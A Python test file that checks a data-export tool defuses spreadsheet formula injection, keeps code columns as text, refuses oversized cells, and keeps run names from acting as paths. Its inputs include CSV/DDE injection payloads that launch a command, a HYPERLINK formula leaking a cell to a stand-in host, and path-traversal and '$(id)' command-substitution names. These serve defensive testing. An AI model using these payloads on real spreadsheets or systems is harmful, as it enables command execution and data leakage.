"""Whatever a cell holds: a spreadsheet runs nothing of it, the file is valid, and a code stays text."""

import csv
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from crosswalk.errors import DataError
from crosswalk.files.rows import write_rows
from crosswalk.files.tabular import Sheet, harmless, write_tables
from crosswalk.text import clean
from tests.hostile_texts import NAUGHTY
from tests.promises import promise

FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", "=cmd|' /C calc'!A0",
            '=HYPERLINK("http://canary.example?x="&A1)', "-2+3+cmd|' /C calc'!A0", "+45 20 30 40 =x", "=DDE(\"cmd\";\"/C calc\";\"x\")",
            "@import", "--1", "=", "+", "-"]  # fmt: skip
_CELLS = st.one_of(st.sampled_from([*FORMULAS, *NAUGHTY, "0110", "0210"]), st.text(max_size=30))


def live(cell: str) -> bool:
    """Whether a spreadsheet would take the cell for a formula."""
    return (
        cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
        and not cell.lstrip("+-").replace(".", "").replace(",", "").isdigit()
    )


def cleaned(rows: list[list[str]]) -> list[list[str]]:
    return [[clean(cell) for cell in row] for row in rows]


@promise("E1", "a cell of a CSV that a spreadsheet would run as a formula gets an apostrophe before it; plain numbers stay")
@pytest.mark.parametrize("formula", FORMULAS)
def test_no_formula_is_live_in_a_csv(tmp_path: Path, formula: str) -> None:
    assert not live(harmless(formula)) or formula in ("-", "+")
    write_tables(tmp_path / "a.csv", [Sheet("s", ["code", formula], [["0110", formula], ["-97", "3.5"]])])
    write_rows(tmp_path / "b.csv", ["code", formula], [(["0110", formula], ()), (["-97", "3.5"], ())])
    for name in ("a.csv", "b.csv"):
        with (tmp_path / name).open(encoding="utf-8-sig", newline="") as stream:
            written = list(csv.reader(stream))
        assert not any(live(cell) for row in written for cell in row), written
        assert written[2] == ["-97", "3.5"]


@promise("E2", "every cell of a workbook is written as text: no formula, no link")
@promise("E3", "characters a workbook may not hold are replaced; nothing a text holds stops an export")
@promise("E5", "codes are text cells, their zeros stay")
@given(st.lists(st.lists(_CELLS, min_size=2, max_size=2), min_size=1, max_size=8))
@settings(deadline=None, max_examples=60)
def test_any_cells_make_a_workbook_of_plain_text(tmp_path_factory: pytest.TempPathFactory, rows: list[list[str]]) -> None:
    from openpyxl import load_workbook

    path = tmp_path_factory.mktemp("out") / "a.xlsx"
    write_tables(path, [Sheet("s", ["code", "title"], [["0110", "x"], *cleaned(rows)])])
    page = load_workbook(path).active
    assert page is not None
    assert page["A2"].value == "0110"
    assert page["A2"].number_format == "@"
    assert page.max_row <= len(rows) + 2
    for row in page.iter_rows():
        for cell in row:
            assert cell.data_type in ("s", "n", "inlineStr")
            assert not isinstance(cell.value, int | float)
            assert cell.hyperlink is None


@promise("E3")
@given(st.lists(st.lists(_CELLS, min_size=2, max_size=2), min_size=1, max_size=8), st.sampled_from([".csv", ".tsv"]))
@settings(deadline=None, max_examples=60)
def test_what_is_written_is_read_back(tmp_path_factory: pytest.TempPathFactory, rows: list[list[str]], ending: str) -> None:
    from crosswalk.files.readers import read_table

    path = tmp_path_factory.mktemp("out") / f"a{ending}"
    kept = [row for row in cleaned(rows) if any(cell.strip() for cell in row)]
    write_tables(path, [Sheet("s", ["code", "title"], [["0110", "x"], *kept])])
    table = read_table(path)
    assert table.columns == ("code", "title")
    assert [[cell.removeprefix("'") for cell in row] for row in table.rows][1:] == [
        [clean(cell.removeprefix("'")) for cell in row] for row in kept
    ]


@promise("E4", "a cell or a table too long for a workbook is refused with its place; nothing is cut in silence")
def test_too_long_for_a_workbook_is_refused(tmp_path: Path) -> None:
    write_tables(tmp_path / "a.xlsx", [Sheet("s", ["a"], [["x" * 32_767]])])
    with pytest.raises(DataError, match="32,768 characters"):
        write_tables(tmp_path / "a.xlsx", [Sheet("s", ["a"], [["x" * 32_768]])])
    with pytest.raises(DataError, match="16,384 columns"):
        write_tables(tmp_path / "b.xlsx", [Sheet("s", [f"c{n}" for n in range(16_385)], [])])
    assert (tmp_path / "a.xlsx").exists()
    assert not (tmp_path / "b.xlsx").exists()


@promise("E12", "a name of a run or a scheme is never a path: files are written only where -o says")
@pytest.mark.parametrize("name", ["../../x", "/etc/x", "..", "a/b", "C:\\x", "~", "$(id)", ".", "a;b"])
def test_names_are_no_paths(tmp_path: Path, name: str) -> None:
    from crosswalk.files.tabular import target_files
    from crosswalk.store.store import Store

    with Store(tmp_path / "s.db") as store:
        store.begin_run(name, "map", "f", {}, [], {})
        assert [run.name for run in store.runs()] == [name]
    assert {path.parent for path in target_files(tmp_path / "out.csv", ["maps", "titles"])} == {tmp_path}
    assert all(path.name.startswith("s.db") for path in tmp_path.iterdir())
